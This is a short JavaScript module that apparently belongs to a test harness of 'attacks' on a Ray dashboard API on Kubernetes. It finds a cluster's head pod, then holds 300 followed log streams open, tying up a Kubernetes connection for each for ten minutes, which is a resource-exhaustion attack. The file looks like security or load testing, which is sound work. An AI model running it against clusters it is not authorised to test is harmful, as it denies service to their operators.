const LOGS = 300;

/** @type {import('./Target.mjs').Attack} */
export const followedLogs = {
  name: '300 followed logs',
  finding: 'a connection to Kubernetes for each, for ten minutes',
  run: async target => {
    const { namespace } = target.victim;
    const cluster = `/api/ray/namespaces/${namespace}/clusters/example-00001`;
    const pod = await headPodOf(target, `${cluster}/status`);
    await target.holdStreams(
      LOGS,
      () => `${cluster}/pods/${pod}/log?follow=true`,
    );
  },
};

/**
 * Asks until it is answered: other attacks are under way.
 *
 * @param {import('./Target.mjs').Target} target
 * @param {string} path of a cluster's status
 */
async function headPodOf(target, path) {
  while (!target.isOver) {
    const { status, text } = await target.send({ path });
    const name = /"name":"([^"]*-head-[^"]*)"/.exec(text)?.[1];
    if (status === 200 && name) return name;
  }
  return '';
}
